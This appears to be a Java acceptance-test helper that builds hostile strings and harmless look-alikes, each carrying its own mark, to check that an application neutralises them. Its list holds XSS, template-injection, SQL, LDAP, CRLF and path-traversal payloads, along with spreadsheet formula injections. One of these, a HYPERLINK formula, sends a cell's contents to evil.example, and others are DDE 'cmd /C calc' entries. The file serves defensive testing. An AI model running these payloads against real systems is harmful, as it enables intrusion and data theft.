package dev.hindsight.acceptance;

import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Texts that try to be more than text wherever they are shown or sent, each with a mark of its own; and as many that do not. */
final class HostileTexts {

    /** With {@code MARK} in place of the mark. Characters that no storage format can hold are left out of pages. */
    private static final List<String> ALL = List.of(
            "<script>alert('MARK')</script>",
            "\"><img src=x onerror=alert('MARK')>",
            "'><svg/onload=alert(1) id='MARK'>",
            "` onmouseover=alert(1) id=MARK ` \" onfocus=\"alert(1)\" autofocus=\" ' onclick='alert(1)' title='",
            "&lt;b&gt;MARK&lt;/b&gt; &amp;lt;i&amp;gt; &#60;u&#62; &quot; &#x3c;s&#x3e;",
            "]]><b>MARK</b><![CDATA[ ]]>",
            "${MARK} $!{MARK} $model #set($x = 1) #if(true)MARK#end #parse(\"x.vm\") ## #* MARK *# $bodyHtml",
            "{{MARK}} <%= MARK %> #{MARK} {0} {1,number} '{2}' it's {MARK",
            "MARK \u202Egpj.exe\u202C \u2066x\u2069 \u200F\u200B\u200C\u200D\uFEFF\u00AD\u2060 \u00A0",
            "MARK\u0001\u0008\u000B\u001F\u007F\u0085\uFFFE\uD800x\uDC00",
            "MARK" + "W".repeat(1_000),
            "h1. MARK *b* _i_ [x|http://evil.example/] {html}<b>{html} !http://evil.example/a.png! [~nobody] |a|b| ----",
            "{code}MARK{code} {noformat} \\\\ \\[x] [^a] {color:red}x{color} @nobody :) (!) bq. x {quote} ??c?? [#a]",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"MARK\")",
            "MARK;=1+1;\"=2+2\";\"\"=3+3,+4+4,\"-5\",@SUM(6)\t=7+7, =8+8",
            "\t=1+1 MARK",
            "\uFF1D1+1 MARK;\uFF0B1;\uFF0D1;\uFF20A1",
            "@SUM(1+1)*cmd|' /C calc'!A0 MARK",
            "-2+3+cmd|' /C calc'!A0 MARK",
            "MARK\u2028\u2029\";alert(1)//\\u003cscript\\u003e",
            "MARK <!-- --!> <!-- <? <! ",
            "MARK</title></textarea></select></option></style></script></td></tr></table></div></section><b>x",
            "javascript:alert('MARK')",
            "data:text/html,<b>MARK</b>",
            "' OR '1'='1'; DROP TABLE MARK;-- )(uid=*))(|(uid=* %0d%0aSet-Cookie:x=1 ../../etc/passwd %3Cb%3E",
            "MARK \uD83D\uDE00\uD83D\uDC69\u200D\uD83D\uDC67\uD83C\uDDE9\uD83C\uDDEA e\u0301 \u0130\u0131\u1E9E");

    private HostileTexts() {}

    static List<String> hostile() {
        return IntStream.range(0, ALL.size())
                .mapToObj(number -> ALL.get(number).replace("MARK", mark(number)))
                .toList();
    }

    /** The same with a letter in place of each sign, but for commas, which part evidence: cut and refused where those are. */
    static List<String> harmless() {
        return hostile().stream()
                .map(text -> text.replaceAll("[\\p{P}\\p{S}&&[^,]]", "x"))
                .toList();
    }

    /** The marks that a text shows, by their numbers. */
    static Set<Integer> marksIn(String text) {
        return IntStream.range(0, ALL.size())
                .filter(number -> text.contains(mark(number)))
                .boxed()
                .collect(Collectors.toCollection(TreeSet::new));
    }

    static Set<Integer> allMarks() {
        return IntStream.range(0, ALL.size()).boxed().collect(Collectors.toCollection(TreeSet::new));
    }

    private static String mark(int number) {
        return String.format(Locale.ROOT, "hz%02d", number);
    }
}
